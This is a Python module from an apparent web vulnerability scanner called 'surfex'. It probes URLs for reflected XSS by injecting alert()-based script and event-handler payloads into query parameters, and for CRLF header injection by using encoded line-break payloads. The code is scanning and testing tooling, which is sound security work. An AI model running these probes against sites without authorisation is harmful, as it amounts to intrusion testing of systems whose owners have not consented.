from __future__ import annotations

import asyncio
import secrets
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence
from urllib.parse import parse_qsl, urlencode, urlsplit, urlunsplit

import aiohttp
from yarl import URL

from surfex.logs import logger
from surfex.models import XSSPoC

# =====================================
# Reflected XSS
# =====================================

XSS_PARAMS = ["q", "s", "search", "query", "id", "page", "lang", "redirect", "url", "next"]

XSS_TEMPLATES = [
    '"><svg/onload=alert({token})>',
    "'><img src=x onerror=alert({token})>",
    "<script>alert({token})</script>",
]


@dataclass
class XSSResult:
    found: bool = False
    pocs: List[XSSPoC] = field(default_factory=list)


def _with_param(url: str, name: str, value: str) -> str:
    parts = urlsplit(url)
    query = [(k, v) for k, v in parse_qsl(parts.query, keep_blank_values=True) if k != name]
    query.append((name, value))
    return urlunsplit(parts._replace(query=urlencode(query)))


def _evidence(text: str, payload: str, around: int = 40) -> str:
    i = text.find(payload)
    if i < 0:
        return ""
    return text[max(0, i - around): i + len(payload) + around].replace("\n", " ")


async def probe_xss(session: aiohttp.ClientSession, url: str, user_agent: Optional[str] = None,
                    timeout: float = 10.0) -> XSSResult:
    """Inject payloads into query parameters of url and look for unescaped reflection."""
    result = XSSResult()
    existing = [k for k, _ in parse_qsl(urlsplit(url).query, keep_blank_values=True)]
    params = list(dict.fromkeys(existing + XSS_PARAMS))
    headers = {"User-Agent": user_agent} if user_agent else {}
    ct = aiohttp.ClientTimeout(total=timeout)

    for param in params:
        for template in XSS_TEMPLATES:
            payload = template.format(token=secrets.randbelow(10**8))
            test_url = _with_param(url, param, payload)
            try:
                async with session.get(test_url, headers=headers, allow_redirects=True, timeout=ct) as resp:
                    if "html" not in (resp.headers.get("content-type") or "").lower():
                        break
                    text = await resp.text(errors="ignore")
            except (aiohttp.ClientError, asyncio.TimeoutError) as e:
                logger.debug("xss probe %s: %s", test_url, e)
                break
            if payload in text:
                result.found = True
                result.pocs.append(XSSPoC(
                    data=test_url,
                    param=param,
                    payload=payload,
                    evidence=_evidence(text, payload),
                    cwe="CWE-79",
                    severity="Medium",
                ))
                break
    return result


# =====================================
# CRLF injection
# =====================================

CRLF_HEADER = "X-Surfex-Crlf"
CRLF_PAYLOADS = [
    "%0d%0a{header}:%20injected",
    "%0a{header}:%20injected",
    "%e5%98%8a%e5%98%8d{header}:%20injected",
]


def crlf_candidates(url: str) -> List[str]:
    base = url.split("?", 1)[0].split("#", 1)[0].rstrip("/")
    out = []
    for p in CRLF_PAYLOADS:
        payload = p.format(header=CRLF_HEADER)
        out.append(f"{base}/{payload}")
        out.append(f"{base}/?surfex={payload}")
    return out


async def probe_crlf(session: aiohttp.ClientSession, urls: Sequence[str], user_agent: Optional[str] = None,
                     timeout: float = 10.0) -> Dict[str, bool]:
    """Return, for each url, whether a CRLF payload injected a response header."""
    results: Dict[str, bool] = {}
    headers = {"User-Agent": user_agent} if user_agent else {}
    ct = aiohttp.ClientTimeout(total=timeout)

    for url in urls:
        results[url] = False
        for candidate in crlf_candidates(url):
            try:
                async with session.get(URL(candidate, encoded=True), headers=headers,
                                       allow_redirects=False, timeout=ct) as resp:
                    injected = CRLF_HEADER in resp.headers
            except (aiohttp.ClientError, asyncio.TimeoutError, ValueError) as e:
                logger.debug("crlf probe %s: %s", candidate, e)
                continue
            if injected:
                results[url] = True
                break
    return results
